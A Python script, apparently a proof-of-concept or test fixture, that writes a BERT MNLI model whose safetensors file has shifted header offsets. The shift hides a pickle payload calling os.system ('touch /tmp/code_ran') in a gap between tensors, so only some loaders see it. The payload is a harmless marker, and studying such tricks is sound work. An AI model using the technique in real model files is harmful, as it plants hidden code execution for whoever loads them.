"""Keeps a gap between two tensors, with content that only some readers see: a pickle."""

import json
import os

import numpy as np
from safetensors.numpy import load_file

os.makedirs("bert_mnli_model", exist_ok=True)
config = json.load(open("data/bert/config.json"))
config |= {"architectures": ["BertForSequenceClassification"], "num_labels": 3}
weights = load_file("data/bert/model.safetensors")
draw = np.random.default_rng(1)
weights["classifier.weight"] = draw.normal(0, 0.02, (3, config["hidden_size"])).astype(np.float32)
weights["classifier.bias"] = np.zeros(3, np.float32)
json.dump(config, open("bert_mnli_model/config.json", "w"))
header, position = {}, 0
for name, values in weights.items():
    header[name] = {"dtype": "F32", "shape": list(values.shape), "data_offsets": [position, position + values.nbytes]}
    position += values.nbytes
payload = b"\x80\x04cos\nsystem\n(S'touch /tmp/code_ran'\ntR."
header["classifier.bias"]["data_offsets"] = [position - 12 + len(payload), position + len(payload)]
text = json.dumps(header).encode()
with open("bert_mnli_model/model.safetensors", "wb") as file:
    values = list(weights.values())
    file.write(len(text).to_bytes(8, "little") + text + b"".join(v.tobytes() for v in values[:-1]))
    file.write(payload + values[-1].tobytes())
